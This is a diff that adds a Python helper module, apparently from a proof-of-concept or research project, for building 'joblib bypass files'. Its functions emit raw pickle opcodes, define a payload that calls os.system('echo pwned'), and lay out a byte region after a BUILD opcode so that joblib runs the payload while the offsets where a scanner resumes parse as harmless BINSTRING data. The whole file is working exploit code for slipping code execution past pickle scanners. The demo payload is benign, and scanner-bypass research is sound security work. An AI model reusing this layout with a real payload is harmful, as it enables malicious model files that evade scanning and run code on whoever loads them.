@@ -1,0 +1,31 @@
+"""Helpers of the joblib bypass files: opcodes and the byte region after a BUILD.
+
+`check(name, data)` and `write(name, data)` are set by make.py (they write into this folder).
+"""
+import struct
+
+def G(m,n): return b'c'+m.encode()+b'\n'+n.encode()+b'\n'
+def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
+def BINSTR_HDR(n): return b'T'+struct.pack('<i',n)
+def I(n): return b'J'+struct.pack('<i',n)
+# os.system("echo pwned"): what joblib runs in every file here.
+PAYLOAD = G('os','system')+U('echo pwned')+b'\x85R'
+def dtype(code):  # numpy.dtype(code, False, True)
+    return G('numpy','dtype')+U(code)+b'\x89\x88\x87R'
+
+check = None
+write = None
+
+def region(j, starts, fill=b'\x00'):
+    """Bytes after a BUILD: joblib resumes at j (POP + payload + STOP); each offset in
+    `starts` (where the scanner / plain pass resume) gets a BINSTRING covering up to the final STOP."""
+    tail = b'0'+PAYLOAD+b'.'
+    r = bytearray(fill*j) + bytearray(tail)
+    total = len(r)
+    for s in starts:
+        assert s+5 <= j, (s, j)
+        r[s:s+5] = b'T'+struct.pack('<i', total-1-(s+5))
+    assert len(r)==total
+    return bytes(r)
+def wrapper6(n, code='u1', cls=('joblib.numpy_pickle','NumpyArrayWrapper')):
+    return G(*cls)+b'('+G('numpy','ndarray')+b'J'+struct.pack('<i',n)+b'\x85'+U('C')+dtype(code)+b'\x89NtR'
